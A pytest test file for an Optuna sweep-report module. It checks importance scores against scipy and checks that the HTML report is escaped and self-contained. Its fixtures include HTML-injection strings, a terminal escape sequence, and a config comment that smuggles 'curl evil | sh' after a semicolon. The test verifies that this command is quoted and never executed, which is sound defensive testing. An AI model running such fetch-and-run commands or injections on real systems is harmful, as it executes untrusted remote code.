"""What is shown of a study: importances against scipy, and a page that needs nothing else."""

import re

import numpy as np
import optuna
import pytest
from optuna.distributions import CategoricalDistribution, LogUniformDistribution
from optuna.trial import TrialState, create_trial
from scipy import stats

from src.search import report as sweep_report
from src.search.report import importance, show

pytestmark = pytest.mark.filterwarnings("ignore::optuna.exceptions.ExperimentalWarning")
NAMES = {"lr": "model.optimizer.lr", "heads": "heads"}
SPACE = {"model.optimizer.lr": LogUniformDistribution(1e-4, 1), "heads": CategoricalDistribution(["<b>a", "b", "c"])}


def trials_of(values, **params):
    params = {NAMES[short]: column for short, column in params.items()}
    rows = [dict(zip(params, row, strict=True)) for row in zip(*params.values(), strict=True)]
    spaces = {name: SPACE[name] for name in params}
    return [create_trial(value=v, params=row, distributions=spaces) for v, row in zip(values, rows, strict=True)]


def test_importances_are_scipys_analysis_of_variance_of_the_ranks():
    rng = np.random.default_rng(0)
    rates, heads = 10 ** rng.uniform(-3, -1, 40), rng.choice(["<b>a", "b", "c"], 40).tolist()
    values = np.abs(np.log10(rates) + 2) + np.array([0.3 * (one == "b") for one in heads])
    found = importance(trials_of(values, lr=rates, heads=heads))
    ranks = stats.rankdata(values)

    def share(groups):
        f, between, within = stats.f_oneway(*groups).statistic, len(groups) - 1, len(values) - len(groups)
        return (f - 1) * between / (f * between + within)

    quarters = np.array_split(ranks[np.argsort(rates)], 4)
    assert found["model.optimizer.lr"] == pytest.approx(share(quarters))
    assert found["heads"] == pytest.approx(max(0, share([ranks[np.array(heads) == one] for one in ("<b>a", "b", "c")])))
    assert next(iter(found)) == "model.optimizer.lr" and found["model.optimizer.lr"] > 0.5


def test_what_does_not_matter_explains_nothing_and_few_trials_tell_nothing():
    rng = np.random.default_rng(1)
    trials = trials_of(rng.uniform(size=200), lr=10 ** rng.uniform(-3, -1, 200))
    assert importance(trials)["model.optimizer.lr"] < 0.05
    assert importance(trials[:5]) == {}
    assert importance(trials_of([1.0] * 9, lr=[0.1] * 9))["model.optimizer.lr"] == 0


def studied(trials):
    study = optuna.create_study(study_name="a<study")
    study.add_trials(trials)
    for key, value in (("command", "python x"), ("monitor", "val/nmae"), ("n_trials", 20)):
        study.set_user_attr(key, value)
    return study


def test_the_page_shows_every_trial_and_asks_for_nothing_from_elsewhere(tmp_path, capsys):
    rng = np.random.default_rng(0)
    rates, heads = 10 ** rng.uniform(-3, -1, 12), rng.choice(["<b>a", "b", "c"], 12).tolist()
    trials = trials_of(rng.uniform(0.1, 1, 12), lr=rates, heads=heads)
    bad = create_trial(state=TrialState.FAIL, user_attrs={"cause": "data: <no>"})
    show(studied([*trials, bad]), tmp_path)
    page = (tmp_path / "report.html").read_text()
    own = re.sub(r"<script.*?</script>", "", page, flags=re.S)
    assert not re.search(r"""(src|href)\s*=\s*["']""", own + "".join(re.findall(r"<script[^>]*>", page)))
    assert "data: &lt;no&gt;" in own and "a&lt;study" in own and "<b>a" not in own
    assert own.count("<tr") == 1 + len(trials) + 1
    assert [title in own for title in ("Optimization history", "Parameter importance", "Parallel coordinates")] == [
        True
    ] * 3
    assert "12 finished, 1 failed, of 20 trials" in own
    out = capsys.readouterr().out
    assert out.count("finished") == 13 and max(map(len, out.splitlines()[:-2])) <= 80


def test_lines_are_drawn_of_what_all_finished_trials_were_given_and_bear_its_names(tmp_path, monkeypatch):
    drawn = []
    monkeypatch.setattr(sweep_report.go.Figure, "to_html", lambda figure, **_: drawn.append(figure) or "")
    few = trials_of([0.3, 0.2, 0.4], heads=["<b>a", "b", "c"])
    both = trials_of([0.1, 0.5], heads=["<b>a", "c"], lr=[0.1, 0.2])
    mistyped = create_trial(
        state=TrialState.FAIL, params={"+a": 0.5}, distributions={"+a": SPACE["model.optimizer.lr"]}
    )
    show(studied([mistyped, *few, *both]), tmp_path)
    (lines,) = [figure for figure in drawn if figure.data[0].type == "parcoords"]
    assert [(axis.label, len(axis.values)) for axis in lines.data[0].dimensions] == [("val/nmae", 5), ("heads", 5)]


@pytest.mark.parametrize("finished", [None, 0, 1])
def test_a_study_that_has_only_begun_has_a_page_too(finished, tmp_path):
    failed = [] if finished is None else [create_trial(state=TrialState.FAIL)]
    show(studied(trials_of([0.5], lr=[0.1]) if finished else failed), tmp_path)
    assert "a&lt;study" in (tmp_path / "report.html").read_text()


def test_what_a_copied_study_says_is_text_that_no_terminal_or_shell_obeys(tmp_path, caplog):
    study = studied(trials_of([0.5], lr=[0.1]))
    for key in ("command", "monitor", "n_trials"):
        study.set_user_attr(key, ["\x1b]0;P\x07"])
    (tmp_path / "best.yaml").write_text("# a\n# b\n# python src/train.py; curl evil | sh\n")
    with caplog.at_level("INFO"):
        show(study, tmp_path)
    assert "\x1b" not in (tmp_path / "report.html").read_text() + (tmp_path / "runs.csv").read_text()
    assert caplog.messages[-1] == "to train the best trial again: python 'src/train.py;' curl evil '|' sh"


@pytest.mark.parametrize("content", [b"", b"one line", b"# a\n# b\n# it's", b"\xff\xfe\n\n\n"])
def test_a_damaged_best_yaml_has_no_command(content, tmp_path, caplog):
    (tmp_path / "best.yaml").write_bytes(content)
    study = studied(trials_of([0.5], lr=[0.1]))
    with caplog.at_level("INFO", sweep_report.__name__):
        show(study, tmp_path)
    assert not [message for message in caplog.messages if "best trial" in message]
